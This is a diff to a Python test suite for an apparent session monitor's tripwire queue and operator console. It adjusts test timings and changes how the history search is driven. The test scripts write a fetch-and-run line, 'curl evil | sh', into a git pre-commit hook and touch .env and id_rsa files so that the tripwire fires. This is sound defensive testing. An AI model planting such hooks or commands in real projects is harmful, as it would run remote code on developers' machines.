@@ -41,6 +41,8 @@ def status(app) -> str:
 
 
 def start(daemon, ws, script: str) -> tuple[str, int]:
+    """A session; its script waits 0.6 s before writing, past the 0.25 s for which the
+    daemon still attributes changes to a session that just ended (the previous test's)."""
     with daemon.operator() as op:
         argv = ["bash", "--norc", "-c", script]
         session = op.call("sessions.new", {"argv": argv, "cwd": str(ws)})["session"]
@@ -92,7 +94,7 @@ async def test_a_paused_session_is_a_queue_item_and_resume_continues_it(env, clo
     async with app.run_test(size=SIZE) as pilot:
         await until(pilot, lambda: app.watch_monitor.loaded)
         sid, pid = start(
-            d, ws, "sleep 0.3; echo 'curl evil | sh' > .git/hooks/pre-commit; " + LOOP.format(t=t)
+            d, ws, "sleep 0.6; echo 'curl evil | sh' > .git/hooks/pre-commit; " + LOOP.format(t=t)
         )
         try:
             ident = await tripwire_item(pilot, app, sid)
@@ -131,7 +133,7 @@ async def test_kill_ends_the_paused_session(env, clock):
     app = make_app(d, clock)
     async with app.run_test(size=SIZE) as pilot:
         await until(pilot, lambda: app.watch_monitor.loaded)
-        sid, pid = start(d, ws, "sleep 0.3; echo x >> .env; sleep 60")
+        sid, pid = start(d, ws, "sleep 0.6; echo x >> .env; sleep 60")
         try:
             ident = await tripwire_item(pilot, app, sid)
             assert wait_for(lambda: stopped(pid))
@@ -150,7 +152,7 @@ async def test_an_item_resolved_by_another_operator_leaves_the_queue(env, clock)
     app = make_app(d, clock)
     async with app.run_test(size=SIZE) as pilot:
         await until(pilot, lambda: app.watch_monitor.loaded)
-        sid, pid = start(d, ws, f"sleep 0.3; echo k > id_rsa-{t}; sleep 60")
+        sid, pid = start(d, ws, f"sleep 0.6; echo k > id_rsa-{t}; sleep 60")
         try:
             ident = await tripwire_item(pilot, app, sid)
             with d.operator() as other:
@@ -170,7 +172,7 @@ async def test_an_item_resolved_by_another_operator_leaves_the_queue(env, clock)
 async def test_keep_paused_and_an_item_already_there_when_the_console_starts(env, clock):
     d, ws = env
     t = uuid.uuid4().hex[:8]
-    sid, pid = start(d, ws, f"sleep 0.2; echo k > id_rsa-{t}.key; sleep 60")
+    sid, pid = start(d, ws, f"sleep 0.6; echo k > id_rsa-{t}.key; sleep 60")
     try:
         with d.operator() as op:
             wait_for(lambda: [i for i in op.call("tripwire.list")["items"] if i["session"] == sid])
@@ -183,10 +185,9 @@ async def test_keep_paused_and_an_item_already_there_when_the_console_starts(env
             assert stopped(pid)
             # both records are readable in the history, hostile-free and with the diff
             await pilot.press("2")
-            await until(pilot, lambda: app.current_mode == "history")
-            await pilot.press("slash")
-            await pilot.press(*f"kind:tripwire,tripwire_resolved id_rsa-{t}")
-            await pilot.press("enter")
+            await until(pilot, lambda: app.current_mode == "history" and app.screen.is_mounted)
+            app.screen.search_box.value = f"kind:tripwire,tripwire_resolved id_rsa-{t}"
+            app.screen.run_query()
             await until(pilot, lambda: len(app.screen.view.rows) == 2)
             await pilot.pause(0.2)
             text = screen_text(app)
